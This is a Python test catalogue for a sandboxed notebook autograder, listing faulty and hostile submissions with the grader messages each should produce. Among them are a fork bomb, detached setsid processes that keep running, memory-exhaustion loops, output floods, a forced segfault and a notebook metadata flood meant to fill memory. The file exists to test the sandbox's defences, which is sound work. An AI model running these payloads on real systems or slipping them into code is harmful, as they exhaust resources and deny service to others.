FAULTS = [
    Entry("loop_at_import", "fault", "cells",
          "해답 셀에서 무한 루프 (import 시점)", "an infinite loop when the cell runs",
          (TARGET,), on_target("while True:\n    pass\n" + ZEROS), expect=("제한 시간", "정의되어 있지 않습니다")),
    Entry("loop_in_call", "fault", "cells", "채점 호출 안에서 무한 루프", "an infinite loop inside the graded call",
          (TARGET,), on_target(_dot("    while True:\n        pass\n")), expect=("제한 시간",)),
    Entry("slow_but_correct", "fault", "cells", "느리지만 올바른 해답 (호출마다 0.25초)",
          "a slow but correct solution (0.25 s a call)", (),
          on_target(_dot("    time.sleep(0.25)\n" + TRUE_BODY, "import time\nimport numpy as np\n")), full_marks=True),
    Entry("memory_at_import", "fault", "cells", "해답 셀에서 메모리를 다 쓸 때까지 할당 (실제로 채움)",
          "allocate and touch memory until it runs out, when the cell runs",
          (TARGET,), on_target("import numpy as np\n_hog = []\nwhile True:\n    _hog.append(np.empty(1 << 26))\n"
                               "    _hog[-1][::512] = 1.0   # a write per page: the memory is really taken\n"
                               + ZEROS),
          expect=(("MemoryError", "제한 시간"), "정의되어 있지 않습니다"), in_class=True),
    Entry("memory_in_call", "fault", "cells", "채점 호출 안에서 거대한 중간 결과 (8 TB 배열)",
          "a huge intermediate inside the graded call (an 8 TB array)",
          (TARGET,), on_target(_dot("    big = np.ones((1 << 20, 1 << 20))\n    return big[:1]\n")),
          expect=(Reason.MEMORY_ERROR,)),
    Entry("fork_bomb", "fault", "cells", "해답 셀에서 포크 폭탄 (프로세스 수 제한까지 fork, 모두 CPU 사용)",
          "a fork bomb in the solution cell (fork up to the process limit, every process spinning)",
          (TARGET,), on_target("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                               "        pass\n"
                               + ZEROS), expect=("제한 시간",), in_class=True),
    Entry("detached_children", "fault", "cells",
          "채점 호출마다 새 세션으로 빠져나가 계속 살아 있는 자식 프로세스를 만듦",
          "every graded call spawns children that detach (setsid) and stay alive",
          (TARGET,), on_target(_dot('''    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(60)
    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
''', "import os\nimport time\nimport numpy as np\n"))),
    Entry("output_flood_at_import", "fault", "cells", "다른 셀에서 출력 폭주 (200 MB 를 print)",
          "an output flood in another cell (200 MB printed)", (),
          with_cell("import sys\nfor _ in range(200):\n    sys.stdout.write('출력 폭주 ' * 80000)\n", TARGET,
                    _dot(TRUE_BODY)), full_marks=True, in_class=True),
    Entry("output_flood_in_call", "fault", "cells", "채점 호출마다 100 MB 를 stderr 에 출력",
          "every graded call writes 100 MB to stderr",
          (TARGET,), on_target(_dot("    import sys\n    for _ in range(100):\n"
                                    "        sys.stderr.write('x' * (1 << 20))\n"
                                    + TRUE_BODY)), expect=("File too large",)),
    Entry("sys_exit_at_import", "fault", "cells", "해답 셀에서 sys.exit()", "sys.exit() when the cell runs",
          (TARGET,), on_target("import sys\nsys.exit(0)\n" + ZEROS), expect=("SystemExit", "정의되어 있지 않습니다")),
    Entry("sys_exit_in_call", "fault", "cells", "채점 호출 안에서 sys.exit(3)", "sys.exit(3) inside the graded call",
          (TARGET,), on_target(_dot("    import sys\n    sys.exit(3)\n")), expect=("SystemExit",)),
    Entry("os_exit_at_import", "fault", "cells", "해답 셀에서 os._exit(0)", "os._exit(0) when the cell runs",
          (TARGET,), on_target("import os\nos._exit(0)\n" + ZEROS), expect=("종료 코드", "정의되어 있지 않습니다"),
          in_class=True),
    Entry("os_exit_in_call", "fault", "cells", "채점 호출 안에서 os._exit(1)", "os._exit(1) inside the graded call",
          (TARGET,), on_target(_dot("    import os\n    os._exit(1)\n")), expect=("종료 코드",)),
    # (ctypes is refused to student code since issue 13; faulthandler's test helper still crashes for real)
    Entry("segfault_at_import", "fault", "cells", "해답 셀에서 세그멘테이션 오류 (faulthandler._sigsegv)",
          "a segmentation fault (faulthandler._sigsegv) when the cell runs",
          (TARGET,), on_target("import faulthandler\nfaulthandler._sigsegv()\n" + ZEROS),
          expect=("SIGSEGV", "정의되어 있지 않습니다")),
    Entry("segfault_in_call", "fault", "cells", "채점 호출 안에서 세그멘테이션 오류 (faulthandler._sigsegv)",
          "a segmentation fault (faulthandler._sigsegv) inside the graded call",
          (TARGET,), on_target(_dot("    import faulthandler\n    faulthandler._sigsegv()\n")), expect=("SIGSEGV",),
       ),
    Entry("slow_when_replayed", "fault", "cells",
          "처음에는 빠르고 다시 실행될 때만 느린 셀 150개 + 호출마다 프로세스를 끝내는 함수 (재실행 폭주)",
          "150 cells fast when first run and slow only when replayed, and a function that ends its process on every "
          "call (a storm of replays)",
          (TARGET,), slow_when_replayed, expect=("종료 코드",), timeouts=(("submission", 60),), max_seconds=75),
    Entry("syntax_error", "fault", "cells", "해답 셀의 문법 오류", "a syntax error in the solution cell",
          (TARGET,), on_target(_dot("    return (query @ key.T\n")), expect=("SyntaxError", "정의되어 있지 않습니다")),
    Entry("missing_function", "fault", "cells", "함수를 정의하지 않음 (해답 셀이 비어 있음)",
          "the function is not defined (the solution cell is empty)",
          (TARGET,), on_target("# 모르겠어요\npass\n"), expect=("정의되어 있지 않습니다",)),
    Entry("renamed_function", "fault", "cells",
          "함수 이름을 바꿈 (dot_attention)", "the function is renamed (dot_attention)",
          (TARGET,), on_target(_dot(TRUE_BODY).replace(f"def {TARGET}(", "def dot_attention(")),
          expect=("정의되어 있지 않습니다",)),
    Entry("wrong_signature", "fault", "cells", "인자 목록이 다름 (query, value)", "a wrong signature (query, value)",
          (TARGET,), on_target(_dot("    return value\n").replace("(query, key, value, mask=None)", "(query, value)")),
          expect=("TypeError",)),
    Entry("wrong_shape", "fault", "cells",
          "출력의 마지막 두 축이 뒤바뀐 모양", "an output with its last two axes swapped",
          (TARGET,), on_target(_dot(TRUE_BODY.replace("    return (w / w.sum(axis=-1, keepdims=True)) @ v",
                                                      "    return np.swapaxes((w / w.sum(axis=-1, keepdims=True)) @ v,"
                                                      " -1, -2)"))),
          expect=("모양",)),
    Entry("wrong_dtype", "fault", "cells", "복소수 배열을 반환", "a complex array is returned",
          (TARGET,), on_target(_dot(TRUE_BODY.replace("    return (w", "    return 1j + (w"))), expect=("숫자 배열",)),
    Entry("returns_nan", "fault", "cells", "NaN 으로 가득 찬 배열을 반환", "an array full of NaN is returned",
          (TARGET,), on_target(_dot("    return np.full(np.shape(query)[:-1] + np.shape(value)[-1:], np.nan)\n")),
          expect=("NaN",)),
    Entry("returns_inf", "fault", "cells", "inf 가 섞인 배열을 반환", "an array with inf is returned",
          (TARGET,), on_target(_dot(TRUE_BODY.replace("    return (w", "    return np.inf + (w"))), expect=("inf",)),
    Entry("returns_none", "fault", "cells", "None 을 반환 (return 문 없음)", "None is returned (no return statement)",
          (TARGET,), on_target(_dot("    scores = np.asarray(query) @ np.swapaxes(np.asarray(key), -1, -2)\n")),
          expect=("None",)),
]


# ----------------------------------------------------------------------------------------------- faults: costs
# What one mistake may cost (issue 13, point 5): its own points, once, fast. Each entry is graded like the faults
# above, with ``spares=()``: every exercise that calls the broken function keeps its honest score (it is graded
# with the reference in its place), and ``tests/sandbox/live/test_costs.py`` also bounds how often a time limit is
# waited out and how often the process is restarted while the graders run.
EXERCISES = ("softmax", "additive_attention", "bahdanau_attention", "dot_product_attention",
             "scaled_dot_product_attention", "causal_mask", "self_attention", "split_heads", "merge_heads",
             "multi_head_attention", "multi_head_attention_layer")

SOFTMAX_LOOPS_ON_LARGE = '''
import numpy as np

def softmax(x, axis=-1):
    x = np.asarray(x)
    while x.size > 8:          # right on tiny inputs, forever on the rest
        pass
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
'''

SOFTMAX_KILLS = '''
import os

def softmax(x, axis=-1):
    os._exit(1)
'''

SOFTMAX_SLEEPS = '''
import time
import numpy as np

def softmax(x, axis=-1):
    time.sleep(3600)
'''


def _every(body: str):
    """Builder: every exercise's solution cell replaced by a function that runs ``body``."""
    return lambda ctx: notebooks.with_code(ctx.solution, {
        name: f"import os\nimport time\n\ndef {name}(*args, **kwargs):\n{body}" for name in EXERCISES})


@dataclass(frozen=True)
class Cost:
    """A costly fault and what it may cost while the graders run: calls whose limit is waited out, restarts."""

    entry: Entry
    waits: int
    restarts: int
    loses: tuple = ()      # exercises that must lose points without being zeroed (checked besides ``attacked``)


COSTS = [
    Cost(Entry("softmax_loops_on_large_inputs", "fault", "cells",
               "softmax 가 원소 8개 이하에서는 맞고, 그보다 큰 입력에서는 무한 루프",
               "softmax right on tiny inputs and looping forever on larger ones",
               (), on("softmax", SOFTMAX_LOOPS_ON_LARGE), spares=("softmax",),   # its tiny-input checks pass
               expect=("제한 시간", "직접 만든 `softmax`를 호출합니다")), waits=1, restarts=0, loses=("softmax",)),
    Cost(Entry("softmax_kills_every_call", "fault", "cells", "softmax 가 호출될 때마다 os._exit(1) 로 프로세스를 끝냄",
               "softmax ends its process (os._exit(1)) on every call",
               ("softmax",), on("softmax", SOFTMAX_KILLS), spares=(), expect=("종료 코드",)), waits=0, restarts=1),
    Cost(Entry("softmax_sleeps", "fault", "cells", "softmax 가 호출될 때마다 한 시간 잠듦",
               "softmax sleeps for an hour on every call",
               ("softmax",), on("softmax", SOFTMAX_SLEEPS), spares=(), expect=("제한 시간",)), waits=1, restarts=0),
    Cost(Entry("every_exercise_hangs", "fault", "cells", "모든 함수가 무한 루프", "every exercise loops forever",
               EXERCISES, _every("    while True:\n        pass\n"), spares=(), expect=("제한 시간",)),
         waits=len(EXERCISES), restarts=0),
    Cost(Entry("every_exercise_kills", "fault", "cells", "모든 함수가 호출될 때마다 프로세스를 끝냄",
               "every exercise ends its process on every call",
               EXERCISES, _every("    os._exit(1)\n"), spares=(), expect=("종료 코드",)),
         waits=0, restarts=len(EXERCISES)),
    Cost(Entry("every_exercise_slow", "fault", "cells", "모든 함수가 호출마다 1.5초 잠든 뒤 0을 반환",
               "every exercise sleeps 1.5 s on every call, then returns 0",
               EXERCISES, _every("    time.sleep(1.5)\n    return 0.0\n"), spares=(), expect=("채점 시간",)),
         waits=len(EXERCISES), restarts=0),   # a call cut short by the end of a time budget is waited out too
]


# ----------------------------------------------------------------------------------------------- faults: files
def _json(nb) -> str:
    return nbformat.writes(nb)


def _huge(ctx) -> bytes:
    nb = copy.deepcopy(ctx.solution)
    cell = solution_cell(nb, "softmax")
    # 10 bytes each: ~105 MB of UTF-8
    cell.outputs = [new_output("stream", name="stdout", text="어텐션 " * 10_500_000)]
    return _json(nb).encode("utf-8")


def _metadata_flood(ctx) -> bytes:
    """The solution notebook with 8.5 million empty lists in its own metadata (written as text: cheap to build)."""
    text = _json(ctx.solution)
    at = text.rindex('"metadata": {') + len('"metadata": {')   # the notebook's own (its keys come after the cells)
    return (text[:at] + '"flood": [' + "[]," * 8_500_000 + '[]],' + text[at:]).encode("utf-8")


FILE_FAULTS = [
    Entry("truncated_notebook", "fault", "file", "중간에서 잘린 노트북 파일", "a notebook file cut in the middle",
          (), lambda ctx: _json(ctx.solution).encode("utf-8")[: len(_json(ctx.solution).encode("utf-8")) // 2],
          expect=("채점할 수 없었습니다", "JSON"), in_class=True),
    Entry("not_json", "fault", "file",
          "JSON 이 아닌 파일 (파이썬 스크립트)", "a file that is not JSON (a Python script)",
          (), lambda ctx: b"def softmax(x):\n    return x\n\x00\x01garbage",
          expect=("채점할 수 없었습니다", "JSON")),
    Entry("other_assignment", "fault", "file", "다른 과제(kv_cache)의 노트북을 제출",
          "the notebook of another assignment (kv_cache)",
          (), lambda ctx: _json(ctx.other_assignment).encode("utf-8"),
          expect=("채점할 수 없었습니다", "다른 과제"), in_class=True),
    Entry("not_utf8", "fault", "file",
          "UTF-8 이 아닌 파일 (CP949 로 저장)", "a file that is not UTF-8 (saved as CP949)",
          (), lambda ctx: _json(ctx.solution).encode("cp949", errors="replace"),
          expect=("채점할 수 없었습니다", "UTF-8"), in_class=True),
    Entry("huge_notebook", "fault", "file", "100 MB 짜리 노트북", "a 100 MB notebook",
          (), _huge, expect=("채점할 수 없었습니다", "너무 큽니다"), in_class=True),
    Entry("empty_file", "fault", "file", "빈 파일 (0 바이트)", "an empty file (0 bytes)",
          (), lambda ctx: b"", expect=("채점할 수 없었습니다",)),
    Entry("metadata_flood", "attack", "file",
          "노트북 메타데이터에 빈 리스트 850만 개([[],[],…], 25 MB)를 넣어 nbformat 이 읽는 동안 메모리를 채우기",
          "notebook metadata of 8.5 million empty lists ([[],[],...], 25 MB), to fill memory while nbformat reads it",
          (), _metadata_flood, expect=("채점할 수 없었습니다", "구조가 너무 큽니다"), in_class=True),
]

ATTACKS += FORBIDDEN_BYPASSES + PROXY_ATTACKS + MONITOR_ATTACKS + CLONE_ATTACKS + BOUND_ATTACKS + LIBRARY_ATTACKS
ATTACKS += SEEN_WHENEVER_IT_RUNS
# The steps bounded before they start, one entry each, with its assignment (benchmarks/worst_case.py --bounds)
BOUNDS = [("frame header", "attention", BOUND_ATTACKS[0]), ("cell source", "attention", BOUND_ATTACKS[1]),
          ("notebook JSON", "attention", FILE_FAULTS[-1]), ("value conversion", "quiz", QUIZ_ATTACKS[0]),
          ("names step", "attention", BOUND_ATTACKS[2])]
assert [e.id for _, _, e in BOUNDS] == ["frame_header_flood", "huge_cell_source", "metadata_flood",
                                         "quiz_value_conversion", "names_step_stalled"]
ALL = ATTACKS + NOTEBOOK_ATTACKS + FAULTS + FILE_FAULTS + [c.entry for c in COSTS]
BY_ID = {e.id: e for e in ALL}
assert len(BY_ID) == len(ALL), "catalogue ids must be unique"


# ----------------------------------------------------------------------------------------------- the report
@dataclass
class Report:
    """What the tests saw, printed at the end of the run (tests/sandbox/live/conftest.py)."""

    outcomes: dict = field(default_factory=dict)      # id -> (kind, text, changed?, lost?, known bug, gained?)
    class_run: dict = field(default_factory=dict)     # numbers of the class under load
    timings: dict = field(default_factory=dict)       # what took how long
    costs: dict = field(default_factory=dict)         # id -> (seconds, grader MiB) of grading the entry

    def record(self, entry: Entry, outcome: str, changed: bool = False, lost: bool = False, gained: bool = False,
               seconds: float | None = None, grader_mb: float | None = None):
        """``changed``: some score is not what it must be; ``gained``: points on an attacked exercise;
        ``seconds``, ``grader_mb``: what grading it cost (time, growth of the grader's peak memory)."""
        self.outcomes[entry.id] = (entry.kind, outcome, changed, lost, entry.known_bug, gained)
        self.costs[entry.id] = (seconds, grader_mb)


REPORT = Report()
